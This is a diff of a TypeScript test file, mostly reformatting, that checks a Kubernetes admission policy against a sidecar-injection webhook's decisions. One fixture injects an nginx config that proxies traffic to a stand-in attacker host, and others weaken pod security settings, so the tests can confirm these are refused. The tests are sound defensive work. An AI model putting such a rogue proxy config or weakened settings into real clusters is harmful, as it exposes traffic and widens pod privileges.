@@ -22,14 +22,24 @@ const COPY_CHECK = 2;
 const FORGED_CHECK = 1;
 
 /** Values the required parameters' patterns take (as in examples/). */
-const VALUES: Record<string, string> = { repo: 'https://github.com/kubernetes/git-sync', shards: 'redis-0.redis:6379,redis-1.redis:6379', 'tls-secret': 'web-tls' };
+const VALUES: Record<string, string> = {
+  repo: 'https://github.com/kubernetes/git-sync',
+  shards: 'redis-0.redis:6379,redis-1.redis:6379',
+  'tls-secret': 'web-tls',
+};
 
 function asking(template: Template, restartPolicy?: string): PodLike {
   const annotations: Record<string, string> = { [`podpattern.dev/${template.spec.pattern}`]: template.name };
   for (const [parameter, spec] of Object.entries(template.spec.parameters)) {
-    if (spec.required === true && spec.default === undefined) annotations[`${template.name}.podpattern.dev/${parameter}`] = VALUES[parameter] ?? (spec.type === 'integer' ? '1' : 'abc');
+    if (spec.required === true && spec.default === undefined)
+      annotations[`${template.name}.podpattern.dev/${parameter}`] = VALUES[parameter] ?? (spec.type === 'integer' ? '1' : 'abc');
   }
-  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'ns', annotations }, spec: { containers: [{ name: 'app', image: 'example.org/app:1' }], ...(restartPolicy ? { restartPolicy } : {}) } };
+  return {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'p', namespace: 'ns', annotations },
+    spec: { containers: [{ name: 'app', image: 'example.org/app:1' }], ...(restartPolicy ? { restartPolicy } : {}) },
+  };
 }
 
 function injected(template: Template, restartPolicy?: string): PodLike {
@@ -75,7 +85,11 @@ t.test('the golden cases of near copies: the policy admits what the webhook keep
   for (const name of ['registry-mirror-kept', 'registry-mirror-other-tag', 'reinject-covering-copy']) {
     const pod = parse(readFileSync(join(import.meta.dirname, '..', 'golden', `${name}.yaml`), 'utf8')) as PodLike;
     const keeps = webhookKeeps(pod);
-    t.equal(validation(proxy, pod, COPY_CHECK).holds, keeps, `${name}: ${keeps ? 'kept' : 'refused'}, as the webhook ${keeps ? 'keeps it' : 'injects it again'}`);
+    t.equal(
+      validation(proxy, pod, COPY_CHECK).holds,
+      keeps,
+      `${name}: ${keeps ? 'kept' : 'refused'}, as the webhook ${keeps ? 'keeps it' : 'injects it again'}`,
+    );
   }
 });
 
@@ -94,9 +108,20 @@ t.test('each field changed alone on an injected pod: refused where it decides wh
     ['runAsNonRoot dropped', false, (_, c) => delete c.securityContext.runAsNonRoot],
     ['seccomp Unconfined', false, (_, c) => (c.securityContext.seccompProfile = { type: 'Unconfined' })],
     ['restartPolicy dropped', false, (_, c) => delete c.restartPolicy],
-    ['a file of its own', false, (pod) => ((pod.metadata?.annotations as Record<string, string>)['https-proxy.podpattern.dev/file.nginx.conf'] = 'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }')],
-    ['the API server\'s procMount default', true, (_, c) => (c.securityContext.procMount = 'Default')],
-    ['the ServiceAccount token mounted', true, (_, c) => c.volumeMounts.push({ name: 'kube-api-access-x', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true })],
+    [
+      'a file of its own',
+      false,
+      (pod) =>
+        ((pod.metadata?.annotations as Record<string, string>)['https-proxy.podpattern.dev/file.nginx.conf'] =
+          'daemon off; events {} http { server { listen 8443; location / { proxy_pass http://evil.example; } } }'),
+    ],
+    ["the API server's procMount default", true, (_, c) => (c.securityContext.procMount = 'Default')],
+    [
+      'the ServiceAccount token mounted',
+      true,
+      (_, c) =>
+        c.volumeMounts.push({ name: 'kube-api-access-x', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true }),
+    ],
     ['quantities in canonical form', true, (_, c) => (c.resources.limits.cpu = '0.5')],
     ['a digest a mirror added', true, (_, c) => (c.image = `${c.image}@sha256:${'a'.repeat(64)}`)],
   ];
@@ -107,35 +132,71 @@ t.test('each field changed alone on an injected pod: refused where it decides wh
     t.equal(webhookKeeps(pod), kept, `${label}: the webhook ${kept ? 'keeps it' : 'injects again'}`);
     const verdict = validation(proxy, pod, COPY_CHECK);
     t.equal(verdict.holds, kept, `${label}: the policy ${kept ? 'admits it' : 'refuses it'}`);
-    if (!kept) t.match(verdict.message, /says template https-proxy is injected, but the pod's copy of its containers or files is not what it renders/);
+    if (!kept)
+      t.match(
+        verdict.message,
+        /says template https-proxy is injected, but the pod's copy of its containers or files is not what it renders/,
+      );
   }
 });
 
 t.test('text rendered from $(pod.name) may be any text, the rest exactly', async (t) => {
   const spec: TemplateSpec = {
-    pattern: 'sidecar', description: 'test', parameters: { v: { type: 'string', default: 'x' } },
+    pattern: 'sidecar',
+    description: 'test',
+    parameters: { v: { type: 'string', default: 'x' } },
     containers: [{ name: 'named', image: 'example.org/named:1', args: ['--id=$(pod.name).$(params.v)'] }],
-    initContainers: [], volumes: [], files: { f: 'pod $(pod.name) in $(pod.namespace) says $(params.v)' }, app: {}, podAnnotations: {},
+    initContainers: [],
+    volumes: [],
+    files: { f: 'pod $(pod.name) in $(pod.namespace) says $(params.v)' },
+    app: {},
+    podAnnotations: {},
   };
   const compiled = compileTemplate('named', spec);
   if (!compiled.ok) throw new Error(compiled.problems.join('; '));
   const template: Template = { name: 'named', hash: '0123456789abcdef', source: 'builtin', spec, compiled: compiled.compiled };
   const status = JSON.stringify({ templates: [{ name: 'named', pattern: 'sidecar', hash: template.hash }] });
   const pod = (name: string, args: string[], file: string): PodLike => ({
-    apiVersion: 'v1', kind: 'Pod',
-    metadata: { name, annotations: { 'podpattern.dev/sidecar': 'named', 'podpattern.dev/status': status, 'named.podpattern.dev/file.f': file } },
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: {
+      name,
+      annotations: { 'podpattern.dev/sidecar': 'named', 'podpattern.dev/status': status, 'named.podpattern.dev/file.f': file },
+    },
     spec: {
       containers: [{ name: 'app', image: 'x' }],
-      initContainers: [{ name: 'named', image: 'example.org/named:1', args, restartPolicy: 'Always', securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } } }],
+      initContainers: [
+        {
+          name: 'named',
+          image: 'example.org/named:1',
+          args,
+          restartPolicy: 'Always',
+          securityContext: {
+            allowPrivilegeEscalation: false,
+            capabilities: { drop: ['ALL'] },
+            runAsNonRoot: true,
+            seccompProfile: { type: 'RuntimeDefault' },
+          },
+        },
+      ],
     },
   });
-  t.ok(validation(template, pod('web-7f9c', ['--id=web-abc12.x'], 'pod web-abc12 in shop says x'), COPY_CHECK).holds, 'another pod name and namespace: ours');
-  t.notOk(validation(template, pod('web', ['--id=web.y'], 'pod web in shop says x'), COPY_CHECK).holds, 'another parameter value in args: not ours');
-  t.notOk(validation(template, pod('web', ['--id=web.x'], 'pod web in shop says y'), COPY_CHECK).holds, 'another parameter value in the file: not ours');
+  t.ok(
+    validation(template, pod('web-7f9c', ['--id=web-abc12.x'], 'pod web-abc12 in shop says x'), COPY_CHECK).holds,
+    'another pod name and namespace: ours',
+  );
+  t.notOk(
+    validation(template, pod('web', ['--id=web.y'], 'pod web in shop says x'), COPY_CHECK).holds,
+    'another parameter value in args: not ours',
+  );
+  t.notOk(
+    validation(template, pod('web', ['--id=web.x'], 'pod web in shop says y'), COPY_CHECK).holds,
+    'another parameter value in the file: not ours',
+  );
   t.notOk(validation(template, pod('web', ['--id=web.x', '--more'], 'pod web in shop says x'), COPY_CHECK).holds, 'an arg added: not ours');
 });
 
-t.test('the registry-mirror rule in CEL is the webhook\'s, for any image pair', async (t) => {
+t.test("the registry-mirror rule in CEL is the webhook's, for any image pair", async (t) => {
   const host = fc.constantFrom('', 'docker.io/', 'mirror.corp.example:5000/', 'localhost/', 'localhost:5000/', 'registry/', 'a.b/c/');
   const path = fc.constantFrom('nginx', 'library/nginx', 'nginxinc/nginx-unprivileged', 'library/redis', 'org/team/app');
   const tag = fc.constantFrom('', ':1.29', ':1.29.0-alpine', ':latest');
@@ -144,7 +205,8 @@ t.test('the registry-mirror rule in CEL is the webhook\'s, for any image pair', 
   fc.assert(
     fc.property(image, image, (expected, actual) => {
       const got = evaluate(imageMatches('image', expected, { template: catalog.get('https-proxy') as Template }), { image: actual });
-      if (got !== sameImage(expected, actual)) throw new Error(`${expected} vs ${actual}: the policy says ${String(got)}, the webhook ${String(sameImage(expected, actual))}`);
+      if (got !== sameImage(expected, actual))
+        throw new Error(`${expected} vs ${actual}: the policy says ${String(got)}, the webhook ${String(sameImage(expected, actual))}`);
     }),
     { numRuns: 2000 },
   );
